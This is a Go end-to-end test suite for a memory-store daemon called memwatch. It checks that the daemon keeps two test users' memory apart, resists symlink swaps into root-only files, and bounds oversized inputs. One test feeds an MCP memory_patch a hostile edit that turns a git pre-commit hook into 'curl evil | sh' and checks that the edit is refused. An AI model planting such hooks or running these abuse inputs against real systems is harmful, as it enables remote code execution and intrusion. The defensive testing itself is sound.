package e2e

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"database/sql"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/memwatch/memwatch/state"
)

// The tenants suite runs the real daemon as root beside two real
// unprivileged users, alice and bob, created for the test (useradd), and
// checks what issue [tenants] asks: the kernel decides what memwatch
// touches in a root (it acts as the root's owner), each client sees and
// changes only its own memory, and every input is bounded.

// tenant is a real unprivileged user made for the test.
type tenant struct {
	name     string
	uid, gid int
	home     string
}

// tenants makes alice and bob under a base directory every user can
// search; each has a home of its own (0700).
func tenants(t *testing.T) (base string, alice, bob tenant) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("the tenants suite needs root: it creates two unprivileged users and runs memwatch as root beside them (CI runs it as root)")
	}
	if _, err := exec.LookPath("useradd"); err != nil {
		t.Skip("the tenants suite needs useradd (Debian's passwd package)")
	}
	base, err := os.MkdirTemp("", "memwatch-tenants")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(base, 0o755)
	t.Cleanup(func() { os.RemoveAll(base) })
	mk := func(role string) tenant {
		var rnd [3]byte
		rand.Read(rnd[:])
		name := "mw" + role + hex.EncodeToString(rnd[:])
		home := filepath.Join(base, role)
		if out, err := exec.Command("useradd", "-M", "-U", "-d", home, "-s", "/usr/sbin/nologin", name).CombinedOutput(); err != nil {
			t.Fatalf("useradd %s: %v %s", name, err, out)
		}
		t.Cleanup(func() { exec.Command("userdel", name).Run() })
		u, err := user.Lookup(name)
		if err != nil {
			t.Fatal(err)
		}
		uid, _ := strconv.Atoi(u.Uid)
		gid, _ := strconv.Atoi(u.Gid)
		os.Mkdir(home, 0o700)
		os.Chown(home, uid, gid)
		return tenant{name: name, uid: uid, gid: gid, home: home}
	}
	return base, mk("alice"), mk("bob")
}

// write creates path (and the directories missing above it, up to its
// home) as u would: owned by u.
func (u tenant) write(t *testing.T, path, content string) {
	t.Helper()
	u.mkdir(t, filepath.Dir(path))
	if err := os.WriteFile(path, []byte(content), 0o640); err != nil {
		t.Fatal(err)
	}
	os.Chown(path, u.uid, u.gid)
}

func (u tenant) mkdir(t *testing.T, dir string) {
	t.Helper()
	var made []string
	for d := dir; d != u.home && strings.HasPrefix(d, u.home); d = filepath.Dir(d) {
		if _, err := os.Lstat(d); err == nil {
			break
		}
		made = append(made, d)
	}
	if err := os.MkdirAll(dir, 0o750); err != nil {
		t.Fatal(err)
	}
	for _, d := range made {
		os.Chown(d, u.uid, u.gid)
	}
}

// command is cmd run as u.
func (u tenant) command(name string, args ...string) *exec.Cmd {
	cmd := exec.Command(name, args...)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(u.uid), Gid: uint32(u.gid)}}
	cmd.Env = []string{"HOME=" + u.home, "PATH=/usr/bin:/bin", "GORACE=atexit_sleep_ms=0"}
	cmd.Dir = "/"
	return cmd
}

// oversize is a now-history memory.md well over a 2 KiB max_size.
func oversize(tag string) string {
	var b strings.Builder
	b.WriteString("# now\n\n## State | " + tag + "\n- " + tag + "\n\n# History\n\n")
	for i := range 30 {
		fmt.Fprintf(&b, "## 2026-01-%02d-%04d | %s %d\n- %s\n\n", i%28+1, i, tag, i, strings.Repeat("detail ", 12))
	}
	return b.String()
}

// waitJournal waits until the journal of stateDir holds a record that
// match accepts (memwatch log, as root).
func waitJournal(t *testing.T, stateDir string, timeout time.Duration, what string, match func(state.Record) bool) []state.Record {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		out, _ := exec.Command(memwatchFast, "log", "--state-dir", stateDir, "--json", "--limit", "10000").Output()
		var recs []state.Record
		json.Unmarshal(out, &recs)
		var hit []state.Record
		for _, r := range recs {
			if match(r) {
				hit = append(hit, r)
			}
		}
		if len(hit) > 0 {
			return hit
		}
		time.Sleep(100 * time.Millisecond)
	}
	t.Fatalf("no journal record of %s within %v", what, timeout)
	return nil
}

// TestTenantsTheKernelDecides: memwatch, as root, acts as each root's owner.
// alice swaps her app database (and its directory) for symlinks into a
// root-only directory while memwatch applies limit_per_app to it, and
// keeps her MEMORY.md in a directory only root may search: nothing in the
// root-only places changes, and no root-only byte reaches her files.
func TestTenantsTheKernelDecides(t *testing.T) {
	base, alice, _ := tenants(t)
	var rnd [8]byte
	rand.Read(rnd[:])
	secret := "ROOTONLY-" + hex.EncodeToString(rnd[:])
	ro := filepath.Join(base, "rootonly")
	os.MkdirAll(ro, 0o700)
	rootDB := filepath.Join(ro, "root.db")
	makeRecordsDB(t, rootDB, secret, 6)
	os.WriteFile(filepath.Join(ro, "facts.md"), []byte(secret), 0o644)

	// alice's app database, swapped for symlinks to root's while memwatch works.
	ar := filepath.Join(alice.home, "ws", "ar")
	alice.mkdir(t, ar)
	appDB := filepath.Join(ar, "app.db")
	makeRecordsDB(t, appDB, "alice", 12)
	os.Chown(appDB, alice.uid, alice.gid)
	// alice's memory-history root keeps MEMORY.md in notes/, a directory of
	// root's that only root may search; the file itself is world-readable.
	mh := filepath.Join(alice.home, "ws", "mh", "a")
	alice.write(t, filepath.Join(mh, "sessions", "s1.jsonl"), `{"role":"user","content":"hello"}`+"\n")
	notes := filepath.Join(mh, "notes")
	os.MkdirAll(notes, 0o700)
	var facts strings.Builder
	facts.WriteString("# Memory\n\n")
	for i := range 200 {
		fmt.Fprintf(&facts, "- %s fact %d %s\n", secret, i, strings.Repeat("x", 30))
	}
	os.WriteFile(filepath.Join(notes, "MEMORY.md"), []byte(facts.String()), 0o644)
	before := tree(t, ro)
	beforeNotes := tree(t, notes)

	helper := filepath.Join(base, "agent-helper")
	copyFile(t, os.Args[0], helper, 0o755)
	pol := writePolicy(t, base, fmt.Sprintf(`stores:
  - name: ar
    layout: app-records
    paths: [%q]
    settle: 30ms
    cooldown: 0s
    limit_per_app: 3
  - name: mh
    layout: memory-history
    paths: [%q]
    settle: 30ms
    cooldown: 0s
    memory_dir: notes
    memory_max_size: 1KiB
`, filepath.Join(ar, "*.db"), filepath.Join(alice.home, "ws", "mh", "*")))
	stateDir := filepath.Join(base, "state")
	p := startBin(t, memwatchFast, "--policy", pol, "--state-dir", stateDir)
	p.waitLog("ready", 10*time.Second)
	race := 6 * time.Second
	agent := func(mode string, args ...string) *exec.Cmd {
		cmd := alice.command(helper, "-test.run=^$")
		cmd.Env = append(cmd.Env, helperEnv+"="+mode, helperEnv+"_ARGS="+strings.Join(args, "\x1f"), helperEnv+"_FOR="+race.String())
		cmd.Dir = alice.home
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
		return cmd
	}
	agents := []*exec.Cmd{agent("swap", appDB, rootDB, ar, ro), agent("records", appDB)}
	for _, a := range agents {
		a.Wait()
	}
	time.Sleep(time.Second)
	if err := p.stop(10 * time.Second); err != nil {
		t.Fatal(err)
	}

	after := tree(t, ro)
	for k, v := range before {
		if after[k] != v {
			t.Errorf("root-only %s changed:\n  before %s\n  after  %s", k, v, after[k])
		}
	}
	for k := range after {
		if _, ok := before[k]; !ok {
			t.Errorf("memwatch created %s in a root-only directory", k)
		}
	}
	afterNotes := tree(t, notes)
	for k, v := range beforeNotes {
		if afterNotes[k] != v {
			t.Errorf("%s in the directory alice cannot search changed", k)
		}
	}
	filepath.WalkDir(alice.home, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || strings.HasPrefix(path, notes+"/") {
			return nil
		}
		if b, _ := os.ReadFile(path); strings.Contains(string(b), secret) {
			t.Errorf("%s holds bytes memwatch read where alice may not", path)
		}
		return nil
	})
	db, err := state.Open(context.Background(), stateDir)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	limits, _ := db.Journal(context.Background(), state.Filter{Store: "ar", Rule: "record-delete", Outcome: state.Done})
	t.Logf("%d records removed from alice's database during the swaps; root's database and directory untouched", len(limits))
	if len(limits) == 0 {
		t.Error("memwatch removed no record from alice's database: the test did not exercise the swaps")
	}
}

// tcpClient talks to the daemon's TCP listener with a bearer token.
type tcpClient struct {
	t     *testing.T
	addr  string
	token string
}

func (c tcpClient) do(method, path string) (int, string) {
	c.t.Helper()
	req, _ := http.NewRequest(method, "http://"+c.addr+path, nil)
	req.Header.Set("Authorization", "Bearer "+c.token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// TestTenantsSeeOnlyTheirOwn: one daemon, alice's and bob's roots in one
// store. A token scoped to alice, and bob on the unix socket, each see and
// change only their own memory; undo needs its right and a store that
// allows it; the state databases are root's alone.
func TestTenantsSeeOnlyTheirOwn(t *testing.T) {
	base, alice, bob := tenants(t)
	aRoot := filepath.Join(alice.home, "nh", "a")
	bRoot := filepath.Join(bob.home, "nh", "b")
	lockedRoot := filepath.Join(bob.home, "locked", "c")
	alice.write(t, filepath.Join(aRoot, "memory.md"), oversize("alice"))
	bob.write(t, filepath.Join(bRoot, "memory.md"), oversize("bob"))
	bob.write(t, filepath.Join(lockedRoot, "memory.md"), oversize("locked"))
	// The state directory exists already, 0755: memwatch's databases are
	// still root's alone.
	stateDir := filepath.Join(base, "state")
	os.Mkdir(stateDir, 0o755)
	l, _ := net.Listen("tcp", "127.0.0.1:0")
	addr := l.Addr().String()
	l.Close()
	adminToken := "admin-" + strings.Repeat("z", 32)
	tokenFile := filepath.Join(base, "token")
	os.WriteFile(tokenFile, []byte(adminToken), 0o600)
	aliceToken, undoToken := "alice-reads-and-writes-"+strings.Repeat("a", 20), "alice-undoes-"+strings.Repeat("u", 20)
	sum := func(s string) string { h := sha256.Sum256([]byte(s)); return hex.EncodeToString(h[:]) }
	sock := filepath.Join(base, "run", "memwatch.sock")
	pol := writePolicy(t, base, fmt.Sprintf(`control:
  socket: %s
  tcp: %s
  token_file: %s
  tokens:
    - name: alice-agent
      sha256: %s
      owners: [%s]
      rights: [read, write]
    - name: alice-undo
      sha256: %s
      owners: [%s]
      rights: [read, write, undo]
stores:
  - name: nh
    layout: now-history
    paths: [%q]
    settle: 30ms
    max_size: 2KiB
    keep_history: 2
  - name: locked
    layout: now-history
    paths: [%q]
    settle: 30ms
    max_size: 2KiB
    keep_history: 2
    allow_undo: false
`, sock, addr, tokenFile, sum(aliceToken), alice.name, sum(undoToken), alice.name, filepath.Join(base, "*", "nh", "*"), filepath.Join(bob.home, "locked", "*")))
	os.Chmod(pol, 0o644)
	p := startBin(t, memwatchFast, "--policy", pol, "--state-dir", stateDir)
	p.waitLog("ready", 10*time.Second)
	compaction := func(root string) state.Record {
		return waitJournal(t, stateDir, 20*time.Second, "a compaction of "+root, func(r state.Record) bool {
			return r.Root == root && r.Rule == "compact" && r.Outcome == state.Done
		})[0]
	}
	aRec, bRec, lockedRec := compaction(aRoot), compaction(bRoot), compaction(lockedRoot)

	// Over TCP with alice's token: her roots, nothing of bob's.
	ac := tcpClient{t, addr, aliceToken}
	code, body := ac.do("GET", "/v1/status")
	if code != 200 || !strings.Contains(body, aRoot) || strings.Contains(body, bob.home) || strings.Contains(body, stateDir) {
		t.Errorf("status for alice's token: %d %s", code, body)
	}
	code, body = ac.do("GET", "/v1/journal?limit=1000")
	if code != 200 || !strings.Contains(body, aRoot) || strings.Contains(body, bob.home) {
		t.Errorf("journal for alice's token: %d, bob's roots there: %v", code, strings.Contains(body, bob.home))
	}
	if code, body = ac.do("POST", fmt.Sprintf("/v1/undo/%d?dry_run=true", bRec.ID)); code != 403 || !strings.Contains(body, "no undo right") {
		t.Errorf("undo of bob's change with alice's read/write token: %d %s", code, body)
	}
	uc := tcpClient{t, addr, undoToken}
	if code, body = uc.do("POST", fmt.Sprintf("/v1/undo/%d?dry_run=true", bRec.ID)); code != 403 || !strings.Contains(body, "does not reach") {
		t.Errorf("undo of bob's change with alice's undo token: %d %s", code, body)
	}
	if code, body = uc.do("POST", fmt.Sprintf("/v1/undo/%d?dry_run=true", aRec.ID)); code != 200 {
		t.Errorf("undo of alice's own change with her undo token: %d %s", code, body)
	}
	if code, _ = (tcpClient{t, addr, "wrong-token-" + strings.Repeat("w", 20)}).do("GET", "/v1/status"); code != 401 {
		t.Errorf("a wrong token: %d, want 401", code)
	}
	if code, body = ac.do("GET", "/metrics"); code != 200 || !strings.Contains(body, "memwatch_build_info") || strings.Contains(body, "go_goroutines") {
		t.Errorf("metrics for alice's token: %d (process metrics shown: %v)", code, strings.Contains(body, "go_goroutines"))
	}
	if code, body = ac.do("GET", "/v1/stores/nh/apps/x/memories"); code == 200 {
		t.Errorf("records API of a store with no database: %d %s", code, body)
	}

	// MCP with alice's token: a session bound to bob's root is refused; an
	// unbound one lists and opens only her roots.
	hc := &http.Client{Transport: bearer{aliceToken, http.DefaultTransport}}
	resp, err := hc.Post("http://"+addr+"/mcp?root="+url.QueryEscape(bRoot), "application/json",
		strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"x","version":"1"}}}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("/mcp?root= bob's root with alice's token: %s, want 400", resp.Status)
	}
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "alice"}, nil).Connect(context.Background(),
		&mcp.StreamableClientTransport{Endpoint: "http://" + addr + "/mcp", HTTPClient: hc}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cs.Close()
	if got, _ := callText(t, cs, "memory_roots", nil); !strings.Contains(got, aRoot) || strings.Contains(got, bob.home) {
		t.Errorf("memory_roots for alice: %q", got)
	}
	if got, isErr := callText(t, cs, "memory_snapshot", map[string]any{"root": bRoot}); !isErr || strings.Contains(got, "# now") {
		t.Errorf("memory_snapshot of bob's root for alice: %q (error %v)", got, isErr)
	}
	for _, tool := range listTools(t, cs) {
		if tool == "memory_undo" {
			t.Errorf("memory_undo offered to a token without the undo right")
		}
	}

	// On the socket, bob is served as bob (SO_PEERCRED).
	bin := filepath.Join(base, "memwatch")
	copyFile(t, memwatchFast, bin, 0o755)
	out, err := bob.command(bin, "status", "--json", "--policy", pol).CombinedOutput()
	if err != nil || !strings.Contains(string(out), bRoot) || strings.Contains(string(out), alice.home) {
		t.Errorf("memwatch status as bob: %v\n%s", err, out)
	}
	out, err = bob.command(bin, "undo", fmt.Sprint(aRec.ID), "--dry-run", "--policy", pol).CombinedOutput()
	if err == nil || !strings.Contains(string(out), "does not reach") {
		t.Errorf("memwatch undo of alice's change as bob: %v\n%s", err, out)
	}
	out, err = bob.command(bin, "undo", fmt.Sprint(bRec.ID), "--dry-run", "--policy", pol).CombinedOutput()
	if err != nil {
		t.Errorf("memwatch undo of bob's own change as bob: %v\n%s", err, out)
	}
	out, err = bob.command(bin, "undo", fmt.Sprint(lockedRec.ID), "--dry-run", "--policy", pol).CombinedOutput()
	if err == nil || !strings.Contains(string(out), "does not allow undo") {
		t.Errorf("undo in a store with allow_undo: false, as bob: %v\n%s", err, out)
	}
	out, err = exec.Command(memwatchFast, "undo", fmt.Sprint(lockedRec.ID), "--dry-run", "--policy", pol).CombinedOutput()
	if err == nil || !strings.Contains(string(out), "does not allow undo") {
		t.Errorf("undo in a store with allow_undo: false, as root: %v\n%s", err, out)
	}
	// The state databases: 0600, whatever the directory's mode.
	for _, f := range []string{state.FileName, "spool.db"} {
		fi, err := os.Stat(filepath.Join(stateDir, f))
		if err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s: %v %v, want mode 0600", f, fi.Mode(), err)
		}
		if out, err := bob.command("/bin/cat", filepath.Join(stateDir, f)).CombinedOutput(); err == nil {
			t.Errorf("bob read %s (%d bytes)", f, len(out))
		}
	}
	if err := p.stop(10 * time.Second); err != nil {
		t.Fatal(err)
	}
}

// bearer adds a bearer token to every request.
type bearer struct {
	token string
	rt    http.RoundTripper
}

func (b bearer) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Authorization", "Bearer "+b.token)
	return b.rt.RoundTrip(r)
}

// TestTenantsUndoOnlyInTheRootItWasMadeIn: alice moved her root away and
// made a new directory at its path; undo of a change made in the old one
// is refused and writes nothing into the new one. memory_patch refuses
// hidden files and bounds its patches.
func TestTenantsUndoOnlyInTheRootItWasMadeIn(t *testing.T) {
	base, alice, _ := tenants(t)
	root := filepath.Join(alice.home, "nh", "a")
	alice.write(t, filepath.Join(root, "memory.md"), oversize("alice"))
	facts := filepath.Join(alice.home, "fe", "f")
	alice.write(t, filepath.Join(facts, "facts", "user.md"), "# User\n\n- name: alice\n")
	hook := filepath.Join(facts, ".git", "hooks", "pre-commit")
	alice.write(t, hook, "#!/bin/sh\nexit 0\n")
	stateDir := filepath.Join(base, "state")
	pol := writePolicy(t, base, fmt.Sprintf(`stores:
  - name: nh
    layout: now-history
    paths: [%q]
    settle: 30ms
    max_size: 2KiB
    keep_history: 2
  - name: fe
    layout: facts-episodes
    paths: [%q]
    settle: 30ms
`, filepath.Join(alice.home, "nh", "*"), filepath.Join(alice.home, "fe", "*")))
	p := startBin(t, memwatchFast, "--policy", pol, "--state-dir", stateDir)
	p.waitLog("ready", 10*time.Second)
	rec := waitJournal(t, stateDir, 20*time.Second, "a compaction", func(r state.Record) bool {
		return r.Root == root && r.Rule == "compact" && r.Outcome == state.Done
	})[0]
	if err := p.stop(10 * time.Second); err != nil {
		t.Fatal(err)
	}
	os.Rename(root, root+".moved")
	alice.write(t, filepath.Join(root, "memory.md"), "another directory now\n")
	out, err := exec.Command(memwatchFast, "undo", fmt.Sprint(rec.ID), "--force", "--policy", pol, "--state-dir", stateDir).CombinedOutput()
	if err == nil || !strings.Contains(string(out), "not the directory this change was made in") {
		t.Errorf("undo after alice moved her root: %v\n%s", err, out)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "memory.md")); string(b) != "another directory now\n" {
		t.Errorf("undo wrote into the directory now at the root's path: %q", b)
	}

	// memory_patch over MCP (stdio): a hidden file is no memory file, and a
	// call bounds its patches.
	cmd := exec.Command(memwatchFast, "mcp", "--policy", pol, "--state-dir", stateDir, "--root", facts)
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test"}, nil).Connect(context.Background(), &mcp.CommandTransport{Command: cmd}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer cs.Close()
	if got, isErr := callText(t, cs, "memory_patch", map[string]any{"path": ".git/hooks/pre-commit",
		"patches": []map[string]string{{"oldText": "exit 0", "newText": "curl evil | sh"}}}); !isErr {
		t.Errorf("memory_patch of .git/hooks/pre-commit: %q", got)
	}
	if b, _ := os.ReadFile(hook); string(b) != "#!/bin/sh\nexit 0\n" {
		t.Errorf("the hook was changed: %q", b)
	}
	var many []map[string]string
	for i := range 101 {
		many = append(many, map[string]string{"oldText": fmt.Sprintf("x%d", i), "newText": "y"})
	}
	if got, isErr := callText(t, cs, "memory_patch", map[string]any{"path": "facts/user.md", "patches": many}); !isErr || !strings.Contains(got, "at most 100") {
		t.Errorf("101 patches in one call: %q", got)
	}
}

// socketClient talks to the daemon's unix socket.
func socketClient(sock string) *http.Client {
	return &http.Client{Transport: &http.Transport{DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "unix", sock)
	}}}
}

// TestTenantsBounded: the inputs an agent controls cannot grow memwatch. A
// 200 MB record, a session log of hundreds of MiB consolidated without an
// LLM, 3,000 MCP sessions, an app_memories view with a query that never
// ends, 60,000 directories in one root: memwatch's RSS stays within a
// bound, the rest of the machine is still served, and each is reported.
// MEMWATCH_TENANTS_LOG_MIB sets the log's size (default 48; the issue's
// figure is 400), MEMWATCH_TENANTS_DIRS the directories in thousands
// (default 60; the figure is 200: make soak runs both).
func TestTenantsBounded(t *testing.T) {
	base, alice, bob := tenants(t)
	// A 200 MB record among alice's records, over limit_per_app.
	ar := filepath.Join(alice.home, "ar")
	alice.mkdir(t, ar)
	appDB := filepath.Join(ar, "app.db")
	makeRecordsDB(t, appDB, "alice", 12)
	db, _ := sql.Open("sqlite", "file:"+appDB)
	if _, err := db.Exec(`INSERT INTO app_memories(app_id, content, created_at) VALUES('A', ?, '2000-01-01 00:00:00')`, strings.Repeat("h", 200<<20)); err != nil {
		t.Fatal(err)
	}
	db.Close()
	os.Chown(appDB, alice.uid, alice.gid)
	// A view whose query never ends, in bob's database.
	viewDB := filepath.Join(bob.home, "ar", "view.db")
	bob.mkdir(t, filepath.Dir(viewDB))
	vdb, _ := sql.Open("sqlite", "file:"+viewDB)
	vdb.Exec(`CREATE VIEW app_memories AS WITH RECURSIVE n(id) AS (SELECT 1 UNION ALL SELECT id+1 FROM n) SELECT id, 'A' AS app_id, 'x' AS content, '' AS created_at, '' AS updated_at FROM n`)
	vdb.Close()
	os.Chown(viewDB, bob.uid, bob.gid)
	// A session log of many MiB, consolidated without an LLM.
	mib, kdirs := 48, 60
	if n, err := strconv.Atoi(os.Getenv("MEMWATCH_TENANTS_LOG_MIB")); err == nil && n > 0 {
		mib = n
	}
	if n, err := strconv.Atoi(os.Getenv("MEMWATCH_TENANTS_DIRS")); err == nil && n > 0 {
		kdirs = n
	}
	mh := filepath.Join(alice.home, "mh", "a")
	alice.mkdir(t, filepath.Join(mh, "sessions"))
	logPath := filepath.Join(mh, "sessions", "big.jsonl")
	f, _ := os.Create(logPath)
	line := strings.Repeat("lorem ipsum dolor sit amet ", 8)
	for i, n := 0, 0; n < mib<<20; i++ {
		k, _ := fmt.Fprintf(f, `{"role":"user","content":"message %d %s"}`+"\n", i, line)
		n += k
	}
	f.Close()
	os.Chown(logPath, alice.uid, alice.gid)
	// bob's now-history root, next to alice's tree of many directories.
	bRoot := filepath.Join(bob.home, "nh", "b")
	bob.write(t, filepath.Join(bRoot, "memory.md"), "# now\n\n# History\n")
	busy := filepath.Join(alice.home, "busy", "r")
	alice.write(t, filepath.Join(busy, "memory.md"), "# now\n\n# History\n")

	stateDir := filepath.Join(base, "state")
	pol := writePolicy(t, base, fmt.Sprintf(`job_timeout: 20s
mcp:
  max_sessions: 64
stores:
  - name: ar
    layout: app-records
    paths: [%q, %q]
    settle: 30ms
    limit_per_app: 10
  - name: mh
    layout: memory-history
    paths: [%q]
    settle: 30ms
    session_idle: 1s
  - name: nh
    layout: now-history
    paths: [%q, %q]
    settle: 30ms
    max_watches: 2000
`, appDB, viewDB, filepath.Join(alice.home, "mh", "*"), filepath.Join(bob.home, "nh", "*"), filepath.Join(alice.home, "busy", "*")))
	p := startBin(t, memwatchFast, "--policy", pol, "--state-dir", stateDir)
	p.waitLog("ready", 30*time.Second)
	t.Logf("ready (peak RSS so far %d MiB)", peakRSS(t, p.cmd.Process.Pid)>>20)

	// 3,000 MCP sessions on the socket: past the client's share
	// (mcp.max_sessions_per_client), each new one ends its oldest.
	hc := socketClient(filepath.Join(stateDir, "memwatch.sock"))
	refused := 0
	var sids []string
	for i := range 3000 {
		req, _ := http.NewRequest("POST", "http://localhost/mcp", strings.NewReader(
			fmt.Sprintf(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"c%d","version":"1"}}}`, i)))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		resp, err := hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusServiceUnavailable {
			refused++
		}
		sids = append(sids, resp.Header.Get("Mcp-Session-Id"))
	}
	open := 0
	for _, sid := range sids[len(sids)-100:] {
		req, _ := http.NewRequest("POST", "http://localhost/mcp", strings.NewReader(`{"jsonrpc":"2.0","id":2,"method":"ping"}`))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Accept", "application/json, text/event-stream")
		req.Header.Set("Mcp-Session-Id", sid)
		req.Header.Set("Mcp-Protocol-Version", "2025-06-18")
		resp, err := hc.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			open++
		}
	}
	t.Logf("3000 MCP sessions: %d refused, %d of the last 100 still open (peak RSS so far %d MiB)", refused, open, peakRSS(t, p.cmd.Process.Pid)>>20)
	if open == 0 || open > 16 {
		t.Errorf("%d of the last 100 sessions open, want 1 to 16 (mcp.max_sessions_per_client)", open)
	}

	// Many directories in alice's busy root; then bob writes.
	start := time.Now()
	for i := range kdirs {
		d := filepath.Join(busy, fmt.Sprintf("d%03d", i))
		os.Mkdir(d, 0o755)
		for j := range 1000 {
			os.Mkdir(filepath.Join(d, strconv.Itoa(j)), 0o755)
		}
	}
	t.Logf("%d,000 directories made in %v (peak RSS so far %d MiB)", kdirs, time.Since(start).Round(time.Millisecond), peakRSS(t, p.cmd.Process.Pid)>>20)
	time.Sleep(time.Second)
	wrote := time.Now()
	os.WriteFile(filepath.Join(bRoot, "note.md"), []byte("bob writes\n"), 0o644)
	var seen time.Duration
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline) && seen == 0; time.Sleep(10 * time.Millisecond) {
		p.mu.Lock()
		for _, l := range p.lines {
			if l["msg"] == "change" && l["root"] == bRoot {
				if at, err := time.Parse(time.RFC3339Nano, fmt.Sprint(l["time"])); err == nil && at.After(wrote) {
					seen = at.Sub(wrote)
				}
			}
		}
		p.mu.Unlock()
	}
	t.Logf("bob's write noticed %v after it, with alice's %d,000 directories beside it", seen.Round(time.Millisecond), kdirs)
	if seen == 0 || seen > time.Second {
		t.Errorf("bob's write was noticed after %v, want within 1s", seen)
	}
	p.waitLog("store reached its bound of inotify watches (max_watches); roots beyond it are polled instead", 5*time.Second)

	// The log is consolidated a part at a time; the 200 MB record is left.
	waitJournal(t, stateDir, 60*time.Second, "a consolidation of the big log", func(r state.Record) bool {
		return r.Store == "mh" && r.Rule == "consolidate" && r.Outcome == state.Done
	})
	waitJournal(t, stateDir, 30*time.Second, "a removal from alice's records", func(r state.Record) bool {
		return r.Store == "ar" && r.Rule == "record-delete" && r.Outcome == state.Done
	})
	time.Sleep(2 * time.Second)
	rss := peakRSS(t, p.cmd.Process.Pid)
	if err := p.stop(20 * time.Second); err != nil {
		t.Fatal(err)
	}
	var stateBytes int64
	filepath.WalkDir(stateDir, func(_ string, d fs.DirEntry, err error) error {
		if err == nil && d.Type().IsRegular() {
			if fi, err := d.Info(); err == nil {
				stateBytes += fi.Size()
			}
		}
		return nil
	})
	const bound = 300 << 20
	t.Logf("peak RSS %d MiB with a 200 MB record, a %d MiB session log, 3000 MCP sessions and %d,000 directories (bound %d MiB); state directory %d MiB",
		rss>>20, mib, kdirs, bound>>20, stateBytes>>20)
	if rss > bound {
		t.Errorf("peak RSS %d MiB, over %d MiB", rss>>20, bound>>20)
	}
	db, _ = sql.Open("sqlite", "file:"+appDB+"?mode=ro")
	var big int
	db.QueryRow(`SELECT COUNT(*) FROM app_memories WHERE length(content) > 100000000`).Scan(&big)
	db.Close()
	if big != 1 {
		t.Errorf("the 200 MB record is gone (%d left): memwatch must leave what it cannot journal whole", big)
	}
	out, _ := exec.Command(memwatchFast, "log", "--state-dir", stateDir, "--json", "--limit", "10000", "--store", "ar").Output()
	if strings.Contains(string(out), strings.Repeat("h", 1000)) {
		t.Errorf("the 200 MB record reached the journal")
	}
	if !strings.Contains(p.raw.String(), "is a view, not a table") {
		t.Errorf("the view of bob's database was not refused (reported)")
	}
}

// TestRefusalNamesTheCaller: alice running recall on bob's private root
// is told that she, alice, cannot reach it, not that bob cannot.
func TestRefusalNamesTheCaller(t *testing.T) {
	base, alice, bob := tenants(t)
	root := filepath.Join(bob.home, "mem")
	bob.write(t, filepath.Join(root, "memory.md"), "# now\n- secret plan\n")
	bin := filepath.Join(base, "memwatch")
	copyFile(t, memwatchFast, bin, 0o755)
	out, err := alice.command(bin, "recall", "--dir", root, "secret").CombinedOutput()
	msg := string(out)
	if err == nil || !strings.Contains(msg, fmt.Sprintf("uid %d (running this command) cannot reach it", alice.uid)) ||
		strings.Contains(msg, fmt.Sprintf("uid %d cannot reach", bob.uid)) || strings.Contains(msg, "secret plan") {
		t.Errorf("alice's recall of bob's root: %v\n%q", err, msg)
	}
}
